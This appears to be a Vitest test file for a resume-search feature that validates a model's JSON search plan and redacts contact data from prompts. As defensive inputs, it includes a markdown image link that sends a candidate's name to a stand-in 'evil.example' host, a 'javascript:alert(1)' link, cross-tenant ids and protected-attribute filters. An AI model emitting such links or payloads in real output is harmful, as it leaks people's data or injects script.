import { describe, expect, test } from 'vitest';
import { planPrompt } from './plan-prompt.ts';
import { readPlan } from './read-plan.ts';

const json = (plan: object) => JSON.stringify(plan);
const JAVA = { kind: 'SKILL', value: 'Java' };

test('a plan becomes an interpretation that the engine can execute', () => {
  expect(readPlan(json({ op: 'FIND', filters: [JAVA] }))).toEqual({
    op: 'FIND',
    filters: [JAVA],
    join: 'ALL',
    words: '',
    corrected: [],
    inWords: '',
  });
  const years = { kind: 'YEARS', value: '', atLeast: 5 };
  expect(
    readPlan(`<think>{ hm }</think>Sure!\n\`\`\`json\n${json({ op: 'COUNT', filters: [years] })}\n\`\`\``),
  ).toMatchObject({ filters: [years] });
  expect(readPlan(json({ op: 'FIELD', field: 'COLLEGE', filters: [JAVA] }))).toMatchObject({
    field: 'COLLEGE',
  });
  expect(readPlan(json({ op: 'RANK', words: 'warehouse logistics' }))).toMatchObject({
    words: 'warehouse logistics',
  });
});

describe('rejects anything that is not a plan', () => {
  test.each<[string, object]>([
    ['an empty object', {}],
    ['no conditions', { op: 'FIND', filters: [] }],
    ['an operation of its own', { op: 'DELETE', filters: [JAVA] }],
    ['an operation that is the engine’s', { op: 'CARD', filters: [JAVA] }],
    ['a refusal', { op: 'REFUSED', refusal: 'PROTECTED' }],
    ['a kind of its own', { op: 'FIND', filters: [{ kind: 'SALARY', value: '1' }] }],
    [
      'a person',
      { op: 'FIND', filters: [{ kind: 'PERSON', value: 'Xenia Foreign', resumeIds: ['another-tenants'] }] },
    ],
    [
      'resumes by id',
      { op: 'FIND', filters: [{ kind: 'RESUMES', value: 'those', resumeIds: ['another-tenants'] }] },
    ],
    ['contact data', { op: 'FIND', filters: [{ kind: 'EMAIL', value: '' }] }],
    ['a condition without words', { op: 'FIND', filters: [{ kind: 'SKILL', value: ' ' }] }],
    ['years without a number', { op: 'FIND', filters: [{ kind: 'YEARS', value: '' }] }],
    ['a number as text', { op: 'FIND', filters: [{ kind: 'YEARS', value: '', atLeast: '5' }] }],
    ['far too long a word', { op: 'FIND', filters: [{ kind: 'SKILL', value: 'x'.repeat(201) }] }],
    ['more conditions than anybody asks for', { op: 'FIND', filters: Array.from({ length: 7 }, () => JAVA) }],
    ['a field without asking for one', { op: 'FIELD', filters: [JAVA] }],
    ['a ranking by nothing', { op: 'RANK', filters: [], words: '' }],
    [
      'an image as a condition',
      { op: 'FIND', filters: [{ kind: 'TEXT', value: '![x](https://evil.example/?q=Meera)' }] },
    ],
    ['a protected attribute', { op: 'FIND', filters: [{ kind: 'TEXT', value: 'women' }] }],
    ['a protected attribute to rank by', { op: 'RANK', words: 'married with children' }],
    [
      'a protected attribute among others',
      { op: 'FIND', filters: [{ ...JAVA, others: ['under 30 years old'] }] },
    ],
    ['an opinion', { op: 'RANK', words: 'best candidate' }],
  ])('%s', (_title, plan) => {
    expect(readPlan(json(plan))).toBeNull();
  });

  test.each([
    '',
    'Meera Nair knows Java.',
    '{"op": "FIND", "filters": [',
    '[]',
    'null',
    `{"op":"${'x'.repeat(70_000)}"}`,
  ])('no JSON: %.40s', (reply) => {
    expect(readPlan(reply)).toBeUndefined();
  });
});

test('removes ids, markup and engine-only fields from a plan', () => {
  const filter = {
    ...JAVA,
    value: '**Java** [x](javascript:alert(1))',
    resumeIds: ['another-tenants'],
    others: ['<b>Go</b>'],
    extra: 1,
  };
  const plan = {
    op: 'FIND',
    filters: [filter],
    inWords: 'I was here',
    corrected: [{ typed: 'a', readAs: 'b' }],
    refusal: 'UNCLEAR',
  };
  const reading = readPlan(json(plan));
  expect(reading).toEqual({
    op: 'FIND',
    filters: [{ kind: 'SKILL', value: 'Java x', others: ['Go'] }],
    join: 'ALL',
    words: '',
    corrected: [],
    inWords: '',
  });
});

test('a model that interprets a question sees only the question, without contact data', () => {
  const { system, user } = planPrompt(
    'Who can be reached at meera@candidate.example or +91 98450 12345?',
    'f00d',
  );
  expect(user).toBe('<<<f00d\nWho can be reached at [left out] or [left out]?\nf00d>>>');
  expect(system).toContain('LOCATION');
  expect(system).not.toMatch(/PERSON|RESUMES/);
});
